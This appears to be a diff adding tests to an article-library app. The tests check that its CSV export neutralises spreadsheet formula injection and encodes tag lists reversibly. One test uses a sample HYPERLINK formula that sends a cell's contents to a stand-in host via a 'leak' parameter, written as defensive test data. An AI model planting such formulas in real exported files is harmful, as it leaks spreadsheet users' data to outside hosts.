@@ -454,8 +454,104 @@ def test_csv_parses_back_with_the_right_rows(
     assert (b["read"], b["starred"], b["has_note"], b["highlights"]) == (
         "true", "true", "false", "0")
     assert (a["tags"], a["has_note"], a["highlights"], a["starred"]) == (
-        "economy;World/Asia", "true", "3", "false")
+        "economy; World/Asia", "true", "3", "false")
     assert ids["d"] not in by_id  # the list leaves the trash out
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _unguard(cell: str) -> str:
+    """A CSV text cell read back as README says: one ``'`` dropped before a formula start."""
+    if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_STARTS):
+        return cell[1:]
+    return cell
+
+
+def _split_tags(cell: str) -> list[str]:
+    """A CSV tags cell read back as README says: ``;;`` is a ``;``, ``; `` ends a name."""
+    if not cell:
+        return []
+    names: list[str] = []
+    name: list[str] = []
+    at = 0
+    while at < len(cell):
+        if cell.startswith(";;", at):
+            name.append(";")
+            at += 2
+        elif cell.startswith("; ", at):
+            names.append("".join(name))
+            name = []
+            at += 2
+        else:
+            name.append(cell[at])
+            at += 1
+    names.append("".join(name))
+    return names
+
+
+def _csv_rows(library: Library, path: Path) -> dict[int, dict[str, str]]:
+    library.export_csv(path)
+    with path.open(encoding="utf-8", newline="") as handle:
+        return {int(row["id"]): row for row in csv.DictReader(handle)}
+
+
+def test_csv_text_cells_cannot_run_as_formulas(
+    built: tuple[Library, dict[str, int]], tmp_path: Path
+) -> None:
+    library, ids = built
+    hyperlink = '=HYPERLINK("http://example.com/?leak="&A1, "Click")'
+    library.update_article(ids["a"], title=hyperlink, source="+44 20 7946 0000")
+    library.update_article(ids["b"], title="-2 degrees overnight", source="@newsdesk")
+    library.update_article(ids["c"], title="'=1+1 is not a formula", source="'Tis the season")
+    rows = _csv_rows(library, tmp_path / "list.csv")
+    a, b, c = rows[ids["a"]], rows[ids["b"]], rows[ids["c"]]
+    assert (a["title"], a["source"]) == ("'" + hyperlink, "'+44 20 7946 0000")
+    assert (b["title"], b["source"]) == ("'-2 degrees overnight", "'@newsdesk")
+    # Text already quoted before a formula start gets one more quote; other quotes stay.
+    assert (c["title"], c["source"]) == ("''=1+1 is not a formula", "'Tis the season")
+    for article_id, row in rows.items():
+        article = library.article(article_id)
+        assert _unguard(row["title"]) == article.title
+        assert _unguard(row["source"]) == (article.source or "")
+        assert not row["title"].startswith(FORMULA_STARTS)
+        assert not row["source"].startswith(FORMULA_STARTS)
+        # Ids, dates, flags and counts are written as they are.
+        assert row["id"] == str(article.id)
+        assert row["published"] == (article.published.isoformat() if article.published else "")
+        assert row["imported_at"] == article.imported_at.isoformat()
+        assert row["highlights"] == str(len(article.highlights))
+        assert row["read"] == ("true" if article.read else "false")
+
+
+def test_csv_tag_lists_decode_to_the_exact_names(
+    built: tuple[Library, dict[str, int]], tmp_path: Path
+) -> None:
+    library, ids = built
+    tricky = ["a;b", "ends;", ";starts", "semi; colon", "-draft", "=SUM(A1)", "plain"]
+    library.add_tags([ids["a"]], tricky)
+    library.add_tags([ids["b"]], ["ends;", "b"])  # "ends;" then "b" must not read as "ends" ";b"
+    library.add_tags([ids["c"]], ["ends", ";b"])
+    rows = _csv_rows(library, tmp_path / "list.csv")
+    for article_id, row in rows.items():
+        expected = [ref.name for ref in library.article(article_id).tags]
+        assert _split_tags(_unguard(row["tags"])) == expected
+    assert {tuple(_split_tags(_unguard(rows[ids[key]]["tags"]))) for key in "bc"} == {
+        ("b", "economy", "ends;"), (";b", "ends", "World/Asia")}
+    assert rows[ids["b"]]["tags"] != rows[ids["c"]]["tags"]
+    assert set(tricky) <= set(_split_tags(_unguard(rows[ids["a"]]["tags"])))
+
+
+_tag_names = st.text(alphabet="ab; -='", min_size=1, max_size=8).map(str.strip).filter(bool)
+
+
+@given(st.lists(_tag_names, max_size=5), st.text(alphabet="a;' =+-@\t\r", max_size=8))
+def test_csv_encodings_always_decode_back(names: list[str], text: str) -> None:
+    assert _split_tags(_unguard(exporting_module.csv_text(exporting_module.csv_tags(names)))) == (
+        names)
+    guarded = exporting_module.csv_text(text)
+    assert _unguard(guarded) == text
+    assert not guarded.startswith(FORMULA_STARTS)
 
 
 # --- progress, cancel, streaming -------------------------------------------------------------
